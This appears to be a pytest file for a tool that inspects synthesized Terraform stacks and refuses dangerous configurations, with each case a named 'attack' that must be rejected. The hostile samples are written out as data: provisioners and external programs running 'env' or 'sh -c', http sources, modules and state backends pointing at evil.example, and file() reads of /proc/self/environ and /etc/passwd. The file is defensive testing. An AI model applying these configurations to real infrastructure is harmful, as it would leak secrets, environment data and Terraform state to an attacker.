"""A synthesized folder that a stranger made: what is let through to Terraform, and what is not."""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from ops.pulls.blocks import problems
from ops.pulls.commands import app
from ops.pulls.folders import InspectionError, Stack, inspected
from ops.pulls.plans import offline
from tests.builders import good_settings
from tests.pulls.folders import DEPLOYED, NAME, Tree, good_files, good_tree, synthesized, with_tree, written

CASES: dict[str, tuple[Callable[[Tree], Any], str]] = {}


def attack(says: str) -> Callable[[Callable[[Tree], Any]], Callable[[Tree], Any]]:
    """A change to a good stack, and what its finding has to name."""

    def register(change: Callable[[Tree], Any]) -> Callable[[Tree], Any]:
        CASES[change.__name__] = (change, says)
        return change

    return register


def topic(tree: Tree) -> Tree:
    found: Tree = next(iter(tree["resource"]["aws_sns_topic"].values()))
    return found


def function(tree: Tree) -> Tree:
    found: Tree = next(iter(tree["resource"]["aws_lambda_function"].values()))
    return found


@attack("provisioner")
def runs_a_program_when_applied(tree: Tree) -> None:
    topic(tree)["provisioner"] = [{"local-exec": {"command": "env"}}]


@attack("connection")
def connects_to_a_host(tree: Tree) -> None:
    topic(tree)["connection"] = {"host": "127.0.0.1"}


@attack("provider")
def takes_another_provider(tree: Tree) -> None:
    topic(tree)["provider"] = "aws.other"


@attack("for_each")
def multiplies(tree: Tree) -> None:
    topic(tree)["for_each"] = {"a": 1}


@attack("lifecycle")
def hides_its_changes(tree: Tree) -> None:
    topic(tree)["lifecycle"] = {"ignore_changes": "all"}


@attack("lifecycle")
def creates_before_it_destroys(tree: Tree) -> None:
    topic(tree)["lifecycle"] = {"create_before_destroy": True}


@attack('resource.\\"null_resource\\"')
def brings_a_resource_of_another_provider(tree: Tree) -> None:
    tree["resource"]["null_resource"] = {"x": {}}


@attack('resource.\\"terraform_data\\"')
def brings_a_resource_of_terraform(tree: Tree) -> None:
    tree["resource"]["terraform_data"] = {"x": {"provisioner": {"local-exec": {"command": "env"}}}}


@attack('data.\\"external\\"')
def runs_a_program_when_planned(tree: Tree) -> None:
    tree["data"]["external"] = {"x": {"program": ["sh", "-c", "env"]}}


@attack('data.\\"http\\"')
def calls_home(tree: Tree) -> None:
    tree["data"]["http"] = {"x": {"url": "https://evil.example"}}


@attack('data.\\"aws_secretsmanager_secret_version\\"')
def reads_a_secret(tree: Tree) -> None:
    tree["data"]["aws_secretsmanager_secret_version"] = {"x": {"secret_id": "their/password"}}


@attack('data.\\"aws_lambda_invocation\\"')
def invokes_a_function_when_planned(tree: Tree) -> None:
    tree["data"]["aws_lambda_invocation"] = {"x": {"function_name": "theirs", "input": "{}"}}


@attack('data."aws_partition"."current"')
def gives_a_known_data_source_arguments(tree: Tree) -> None:
    tree["data"]["aws_partition"]["current"]["provider"] = "aws.other"


@attack('\\"module\\"')
def takes_a_module(tree: Tree) -> None:
    tree["module"] = {"x": {"source": "git::https://evil.example/x.git"}}


@attack('\\"import\\"')
def takes_over_what_exists(tree: Tree) -> None:
    tree["import"] = [{"to": "aws_lambda_function.x", "id": "theirs"}]


@attack('\\"check\\"')
def hides_a_data_source_in_a_check(tree: Tree) -> None:
    tree["check"] = {"x": {"data": {"http": {"x": {"url": "https://evil.example"}}}}}


@attack('\\"ephemeral\\"')
def reads_a_secret_ephemerally(tree: Tree) -> None:
    tree["ephemeral"] = {"aws_secretsmanager_secret_version": {"x": {"secret_id": "their/password"}}}


@attack('\\"locals\\"')
def computes(tree: Tree) -> None:
    tree["locals"] = {"x": "y"}


@attack("terraform.required_providers")
def requires_another_provider(tree: Tree) -> None:
    tree["terraform"]["required_providers"]["http"] = {"source": "hashicorp/http", "version": "3.0.0"}


@attack("terraform.required_providers.aws")
def takes_the_provider_from_elsewhere(tree: Tree) -> None:
    tree["terraform"]["required_providers"]["aws"]["source"] = "evil.example/hashicorp/aws"


@attack("terraform.required_providers.aws")
def passes_the_provider_on(tree: Tree) -> None:
    tree["terraform"]["required_providers"]["aws"]["configuration_aliases"] = ["aws.x"]


@attack("terraform.backend")
def keeps_the_state_at_a_strange_place(tree: Tree) -> None:
    tree["terraform"]["backend"] = {"http": {"address": "https://evil.example"}}


@attack('terraform.backend.\\"s3\\"')
def sends_the_state_to_another_endpoint(tree: Tree) -> None:
    tree["terraform"]["backend"] = {
        "s3": {"bucket": "b", "key": "k", "endpoints": {"s3": "https://evil.example"}}
    }


@attack("terraform")
def has_no_place_of_the_state(tree: Tree) -> None:
    del tree["terraform"]["backend"]


@attack("terraform")
def has_an_empty_cloud_beside_the_backend(tree: Tree) -> None:
    tree["terraform"]["cloud"] = {}


@attack("terraform")
def switches_on_an_experiment(tree: Tree) -> None:
    tree["terraform"]["experiments"] = ["x"]


@attack("provider.aws")
def sends_the_identity_to_another_endpoint(tree: Tree) -> None:
    tree["provider"]["aws"][0]["endpoints"] = [{"sts": "https://evil.example"}]


@attack("provider.aws")
def starts_a_program_for_credentials(tree: Tree) -> None:
    tree["provider"]["aws"][0]["shared_config_files"] = ["functions/digest.zip"]


@attack("provider.aws")
def takes_on_another_role(tree: Tree) -> None:
    tree["provider"]["aws"][0]["assume_role"] = [{"role_arn": "arn:aws:iam::111122223333:role/admin"}]


@attack("provider.aws")
def has_two_providers(tree: Tree) -> None:
    tree["provider"]["aws"].append({"alias": "x", "region": "us-east-1"})


@attack("provider")
def has_another_provider(tree: Tree) -> None:
    tree["provider"]["http"] = [{}]


@attack("provider.aws.region")
def computes_the_region(tree: Tree) -> None:
    tree["provider"]["aws"][0]["region"] = "${var.pagerduty_integration_url}"


@attack("provider")
def has_no_provider(tree: Tree) -> None:
    del tree["provider"]


@attack("terraform")
def has_no_versions(tree: Tree) -> None:
    del tree["terraform"]


@attack("${file(")
def reads_a_file(tree: Tree) -> None:
    topic(tree)["display_name"] = '${file("/proc/self/environ")}'


@attack("${file(")
def reads_a_file_in_a_key(tree: Tree) -> None:
    topic(tree)["tags"] = {'${file("/proc/self/environ")}': "x"}


@attack("%{for")
def loops(tree: Tree) -> None:
    topic(tree)["display_name"] = '%{for x in fileset("/", "*")}${x}%{endfor}'


@attack("${nonsensitive(")
def shows_what_is_sensitive(tree: Tree) -> None:
    topic(tree)["display_name"] = "${nonsensitive(var.pagerduty_integration_url)}"


@attack("${startswith(")
def guesses_the_secret(tree: Tree) -> None:
    condition = '${startswith(var.pagerduty_integration_url, "https://events.pagerduty.com/integration/a")}'
    tree["variable"]["pagerduty_integration_url"]["validation"][0]["condition"] = condition


@attack("${aws_sns_topic.a.arn != ")
def computes_with_a_reference(tree: Tree) -> None:
    topic(tree)["display_name"] = '${aws_sns_topic.a.arn != file("/etc/passwd")}'


@attack("${file(")
def hides_an_expression_behind_an_escape(tree: Tree) -> None:
    topic(tree)["display_name"] = '$$${file("/etc/passwd")}'


@attack("${path.cwd}")
def asks_for_a_path(tree: Tree) -> None:
    tree["output"]["x"] = {"value": "${path.cwd}"}


@attack('variable.\\"pagerduty_integration_url\\"')
def unmarks_the_secret(tree: Tree) -> None:
    tree["variable"]["pagerduty_integration_url"]["sensitive"] = False


@attack("variable")
def asks_for_another_variable(tree: Tree) -> None:
    tree["variable"]["aws_secret_access_key"] = {"type": "string", "sensitive": True}


@attack('output.\\"x\\"')
def gives_an_output_a_precondition(tree: Tree) -> None:
    tree["output"]["x"] = {"value": "y", "precondition": {"condition": "true"}}


@attack("depends_on")
def depends_on_an_expression(tree: Tree) -> None:
    topic(tree)["depends_on"] = ["module.x"]


@attack("filename")
def ships_a_file_of_the_machine(tree: Tree) -> None:
    function(tree)["filename"] = "/etc/passwd"


@attack("filename")
def climbs_out_of_the_folder(tree: Tree) -> None:
    function(tree)["filename"] = "functions/../../../../../etc/passwd"


@attack("resource")
def has_a_list_of_blocks(tree: Tree) -> None:
    tree["resource"] = [tree["resource"]]


@attack("resource.aws_sns_topic.x")
def has_a_list_of_resources(tree: Tree) -> None:
    tree["resource"]["aws_sns_topic"]["x"] = [{"provisioner": {}}]


@attack("resource")
def has_a_name_that_is_none(tree: Tree) -> None:
    tree["resource"]["aws_sns_topic"]["x\n::add-mask::y"] = {}


@pytest.mark.parametrize("name", CASES)
def test_attack_is_refused(tmp_path: Path, name: str) -> None:
    change, says = CASES[name]
    tree = good_tree()
    change(tree)
    with pytest.raises(InspectionError) as caught:
        inspected(with_tree(tmp_path, tree))
    told = [
        finding for finding in caught.value.findings if says.replace("\\", "") in finding.replace('\\"', '"')
    ]
    assert told, caught.value.findings
    assert all(NAME in finding for finding in caught.value.findings)


def test_what_the_generator_makes_is_let_through(tmp_path: Path) -> None:
    (stack,) = inspected(written(tmp_path, good_files())).values()
    assert stack.name == NAME
    assert stack.tree == good_tree()
    assert set(stack.archives) == {path.split("/", 2)[2] for path in good_files() if path.endswith(".zip")}


@pytest.mark.parametrize(
    "changes",
    [
        DEPLOYED,
        {"terraform": {"backend": {"type": "cloud", "organization": "our-team", "project": "monitoring"}}},
        {"tags": {"organizations_policy": {"enabled": True, "attach_to": "r-abcd"}}},
        {"features": {"dashboards": False, "saved_queries": False}},
    ],
)
def test_every_way_to_configure_is_let_through(tmp_path: Path, changes: Tree) -> None:
    assert list(inspected(synthesized(good_settings(changes), tmp_path))) == [NAME]


def test_key_that_stands_twice_is_refused(tmp_path: Path) -> None:
    text = json.dumps(good_tree())
    text = text[:-1] + ', "terraform": {"backend": {"http": {"address": "https://evil.example"}}}}'
    with pytest.raises(InspectionError, match="stands twice"):
        inspected(with_tree(tmp_path, text))


@pytest.mark.parametrize("text", ["", "[1", "[]", '"x"', "null", '{"resource": NaN}', "[" * 100_000, "\xff"])
def test_what_is_no_stack_is_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(InspectionError):
        inspected(with_tree(tmp_path, text))


@pytest.mark.parametrize(
    "path",
    [
        f"stacks/{NAME}/evil.tf",
        f"stacks/{NAME}/evil_override.tf.json",
        f"stacks/{NAME}/terraform.tfvars",
        f"stacks/{NAME}/.terraform.lock.hcl",
        f"stacks/{NAME}/.terraform/providers/evil",
        f"stacks/{NAME}/functions/evil.sh",
        f"stacks/{NAME}/modules/x/main.tf.json",
        "stacks/UPPER/cdk.tf.json",
        ".terraformrc",
        "evil\n::add-mask::x",
    ],
)
def test_file_that_synth_does_not_write_is_refused(tmp_path: Path, path: str) -> None:
    with pytest.raises(InspectionError, match="a file that synth does not write") as caught:
        inspected(written(tmp_path, good_files() | {path: b"{}"}))
    assert "::" not in str(caught.value)
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize("place", [f"stacks/{NAME}/functions/extra.zip", f"stacks/{NAME}/functions2", "more"])
def test_link_is_refused_and_not_followed(tmp_path: Path, place: str) -> None:
    folder = written(tmp_path / "folder", good_files())
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "evil.tf").write_text("secret")
    (folder / place).symlink_to(secret if "." not in place else secret / "evil.tf")
    with pytest.raises(InspectionError) as caught:
        inspected(folder)
    (finding,) = caught.value.findings
    assert "found a link" in finding


def test_pipe_is_refused(tmp_path: Path) -> None:
    folder = written(tmp_path, good_files())
    os.mkfifo(folder / "stacks" / NAME / "functions" / "pipe.zip")
    with pytest.raises(InspectionError, match="no plain file"):
        inspected(folder)


def test_empty_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InspectionError, match="found no stack"):
        inspected(tmp_path)


def test_archive_without_a_stack_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InspectionError, match="no JSON"):
        inspected(written(tmp_path, {"stacks/lonely/functions/x.zip": b""}))


def test_command_tells_what_is_there(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["inspect", str(written(tmp_path, good_files()))])
    assert result.exit_code == 0
    assert result.stdout.startswith(f"{NAME}: ")


def test_command_ends_in_status_1_with_a_line_for_each_finding(tmp_path: Path) -> None:
    tree = good_tree()
    reads_a_file(tree)
    calls_home(tree)
    result = CliRunner().invoke(app, ["inspect", str(with_tree(tmp_path, tree))])
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 2
    assert result.stdout == ""


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of everything in a tree."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, item in items for place in places(item, (*path, key)))]


def small_tree() -> Tree:
    """A good stack with one resource of each type."""
    tree = good_tree()
    tree["resource"] = {kind: dict([next(iter(items.items()))]) for kind, items in tree["resource"].items()}
    return tree


TEXTS = st.sampled_from(
    ["", "x", "aws_x.y", '${file("/etc/passwd")}', "${aws_x.y.arn}", "%{if}", "::x", "\n"]
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | TEXTS,
    lambda inner: (
        st.lists(inner, max_size=2) | st.dictionaries(TEXTS | st.just("provisioner"), inner, max_size=2)
    ),
    max_leaves=5,
)
FILES = {path.split("/", 2)[2] for path in good_files() if path.endswith(".zip")}


@given(st.data(), JSON)
def test_whatever_stands_in_a_stack_is_judged_and_never_raises(data: st.DataObject, value: Any) -> None:
    tree = small_tree()
    path = data.draw(st.sampled_from(places({key: part for key, part in tree.items() if key != "//"})))
    changed: Any = copy.deepcopy(tree)
    if not path:
        changed = value
    else:
        parent = changed
        for key in path[:-1]:
            parent = parent[key]
        parent[path[-1]] = value
    told = list(problems(changed, FILES))
    text = json.dumps(
        {key: part for key, part in changed.items() if key != "//"} if isinstance(changed, dict) else {}
    )
    if "${file" in text:
        assert told
    if not told:
        offline(Stack(NAME, changed, {}))  # what is let through can be planned
